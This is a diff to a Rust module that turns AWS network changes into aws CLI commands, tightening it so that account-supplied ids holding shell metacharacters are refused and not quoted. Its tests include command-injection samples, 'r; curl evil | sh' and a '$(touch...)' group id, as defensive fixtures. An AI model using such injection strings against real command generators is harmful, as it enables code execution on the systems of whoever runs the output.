@@ -13,46 +13,40 @@ pub fn render_cli(changes: &[Change]) -> Vec<String> {
     let mut variables = Variables::default();
     changes
         .iter()
-        .map(shell_safe)
-        .flat_map(|change| commands(&change, &mut variables))
+        .flat_map(|change| match unsafe_value(change) {
+            // Ids and names come from the account (hostile input): a command a person pastes
+            // must not run anything else. AWS ids, names and ARNs never need quoting.
+            Some(value) => vec![format!(
+                "# not rendered: `{}` holds characters a shell would interpret",
+                value.escape_default()
+            )],
+            None => commands(change, &mut variables),
+        })
         .collect()
 }
 
-/// `text` as one shell word: as it is when it holds only characters no shell interprets,
-/// else single-quoted. Ids and names come from the account (hostile input): a command a
-/// person pastes must not run anything else.
-fn shell_word(text: &str) -> String {
-    let plain = !text.is_empty()
-        && text
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || "._:/@+=,-".contains(c));
-    if plain {
-        text.to_string()
-    } else {
-        format!("'{}'", text.replace('\'', "'\\''"))
-    }
+/// Whether `text` holds only characters no shell interprets (those of AWS ids, names, ARNs,
+/// CIDRs and service names).
+fn shell_plain(text: &str) -> bool {
+    text.chars()
+        .all(|c| c.is_ascii_alphanumeric() || "._:/@+=,-*".contains(c))
 }
 
-/// The change with every id, name and value as a shell word (through its serde form, so
-/// that no field is forgotten).
-fn shell_safe(change: &Change) -> Change {
-    fn quote(value: &mut serde_json::Value, key: Option<&str>) {
+/// The first value of the change (through its serde form, so that no field is forgotten)
+/// that is not a plain shell word.
+fn unsafe_value(change: &Change) -> Option<String> {
+    fn first(value: &serde_json::Value) -> Option<String> {
         match value {
-            serde_json::Value::String(s) if key != Some("action") => *s = shell_word(s),
-            serde_json::Value::Array(items) => items.iter_mut().for_each(|v| quote(v, None)),
-            serde_json::Value::Object(fields) => {
-                for (k, v) in fields.iter_mut() {
-                    quote(v, Some(k));
-                }
-            }
-            _ => {}
+            serde_json::Value::String(s) if !shell_plain(s) => Some(s.clone()),
+            serde_json::Value::Array(items) => items.iter().find_map(first),
+            serde_json::Value::Object(fields) => fields.values().find_map(first),
+            _ => None,
         }
     }
-    let Ok(mut value) = serde_json::to_value(change) else {
-        return change.clone();
-    };
-    quote(&mut value, None);
-    serde_json::from_value(value).unwrap_or_else(|_| change.clone())
+    match serde_json::to_value(change) {
+        Ok(value) => first(&value),
+        Err(e) => Some(e.to_string()),
+    }
 }
 
 /// Shell variables standing for the ids of resources created earlier in the script.
@@ -84,12 +78,19 @@ impl Variables {
     }
 }
 
-fn peer_flag(peer: &Peer, variables: &Variables) -> String {
+/// The rule's peer and port. The `--ip-permissions` shorthand is double-quoted so that a
+/// group created earlier in the script (a shell variable) expands inside it; every value in
+/// it is a plain word (`render_cli` refuses others).
+fn peer_flag(peer: &Peer, port: u16, variables: &Variables) -> String {
+    let bare = |id: &str| variables.id(id).trim_matches('"').to_string();
     match peer {
-        Peer::Cidr(cidr) => format!("--cidr {cidr}"),
-        Peer::Group(id) => format!("--source-group {}", variables.id(id)),
+        Peer::Cidr(cidr) => format!("--protocol tcp --port {port} --cidr {cidr}"),
+        Peer::Group(id) => format!(
+            "--ip-permissions \"IpProtocol=tcp,FromPort={port},ToPort={port},UserIdGroupPairs=[{{GroupId={}}}]\"",
+            bare(id)
+        ),
         Peer::PrefixList(id) => format!(
-            "--ip-permissions 'IpProtocol=tcp,FromPort=443,ToPort=443,PrefixListIds=[{{PrefixListId={id}}}]'"
+            "--ip-permissions \"IpProtocol=tcp,FromPort={port},ToPort={port},PrefixListIds=[{{PrefixListId={id}}}]\""
         ),
     }
 }
@@ -180,10 +181,10 @@ fn gateway_and_route_commands(change: &Change, variables: &mut Variables) -> Vec
 
 fn endpoint_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
     match change {
-        Change::CreateEndpointSecurityGroup { vpc_id } => {
+        Change::CreateEndpointSecurityGroup { vpc_id, name } => {
             let sg = variables.define(&super::new_endpoint_group_id(vpc_id), "ENDPOINT_SG_ID");
             vec![
-                format!("{sg}=$(aws ec2 create-security-group --vpc-id {vpc_id} --group-name vpc-endpoints --description 'HTTPS from the VPC to its interface endpoints' --query GroupId --output text)"),
+                format!("{sg}=$(aws ec2 create-security-group --vpc-id {vpc_id} --group-name {name} --description 'HTTPS from the VPC to its interface endpoints' --query GroupId --output text)"),
                 format!("for cidr in $(aws ec2 describe-vpcs --vpc-ids {vpc_id} --query 'Vpcs[0].CidrBlockAssociationSet[].CidrBlock' --output text); do aws ec2 authorize-security-group-ingress --group-id \"${sg}\" --protocol tcp --port 443 --cidr \"$cidr\"; done"),
             ]
         }
@@ -247,36 +248,20 @@ fn filter_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
             group_id,
             port,
             peer,
-        } => vec![match peer {
-            Peer::PrefixList(_) => format!(
-                "aws ec2 authorize-security-group-egress --group-id {group_id} {}",
-                peer_flag(peer, variables)
-            ),
-            Peer::Group(id) => format!(
-                "aws ec2 authorize-security-group-egress --group-id {group_id} --ip-permissions 'IpProtocol=tcp,FromPort={port},ToPort={port},UserIdGroupPairs=[{{GroupId={}}}]'",
-                variables.id(id).trim_matches('"')
-            ),
-            Peer::Cidr(_) => format!(
-                "aws ec2 authorize-security-group-egress --group-id {group_id} --protocol tcp --port {port} {}",
-                peer_flag(peer, variables)
-            ),
-        }],
+        } => vec![format!(
+            "aws ec2 authorize-security-group-egress --group-id {} {}",
+            variables.id(group_id),
+            peer_flag(peer, *port, variables)
+        )],
         Change::AuthorizeIngress {
             group_id,
             port,
             peer,
-        } => vec![match peer {
-            Peer::PrefixList(_) => format!(
-                "aws ec2 authorize-security-group-ingress --group-id {} {}",
-                variables.id(group_id),
-                peer_flag(peer, variables)
-            ),
-            _ => format!(
-                "aws ec2 authorize-security-group-ingress --group-id {} --protocol tcp --port {port} {}",
-                variables.id(group_id),
-                peer_flag(peer, variables)
-            ),
-        }],
+        } => vec![format!(
+            "aws ec2 authorize-security-group-ingress --group-id {} {}",
+            variables.id(group_id),
+            peer_flag(peer, *port, variables)
+        )],
         Change::RevokeEgress { group_id, peer } | Change::RevokeIngress { group_id, peer } => {
             let direction = if matches!(change, Change::RevokeEgress { .. }) {
                 "egress"
@@ -356,7 +341,10 @@ mod tests {
                 route_table_id: s("rtb-1"),
                 destination: s("10.0.0.0/8"),
             },
-            Change::CreateEndpointSecurityGroup { vpc_id: s("vpc-1") },
+            Change::CreateEndpointSecurityGroup {
+                vpc_id: s("vpc-1"),
+                name: s("vpc-endpoints"),
+            },
             Change::CreateInterfaceEndpoint {
                 vpc_id: s("vpc-1"),
                 service_name: s("com.amazonaws.us-east-1.logs"),
@@ -435,10 +423,7 @@ mod tests {
         for change in every_change() {
             let commands = render_cli(std::slice::from_ref(&change));
             assert!(!commands.is_empty(), "{change:?}");
-            assert!(
-                commands.iter().all(|c| c.contains("aws ")),
-                "{commands:?}"
-            );
+            assert!(commands.iter().all(|c| c.contains("aws ")), "{commands:?}");
         }
     }
 
@@ -455,15 +440,21 @@ mod tests {
     }
 
     #[test]
-    fn hostile_ids_stay_one_shell_word() {
-        let change = Change::AttachRolePolicy {
-            role_name: "r; curl evil | sh".into(),
-            policy_arn: "arn:aws:iam::aws:policy/it's".into(),
-        };
-        let command = &render_cli(&[change])[0];
-        assert_eq!(
-            command,
-            "aws iam attach-role-policy --role-name 'r; curl evil | sh' --policy-arn 'arn:aws:iam::aws:policy/it'\\''s'"
-        );
+    fn hostile_ids_are_not_rendered() {
+        for change in [
+            Change::AttachRolePolicy {
+                role_name: "r; curl evil | sh".into(),
+                policy_arn: "arn:aws:iam::aws:policy/x".into(),
+            },
+            Change::AuthorizeEgress {
+                group_id: "sg-1".into(),
+                port: 443,
+                peer: Peer::Group("sg-0a$(touch${IFS}/tmp/x)".into()),
+            },
+        ] {
+            let commands = render_cli(&[change]);
+            assert_eq!(commands.len(), 1);
+            assert!(commands[0].starts_with("# not rendered:"), "{commands:?}");
+        }
     }
 }
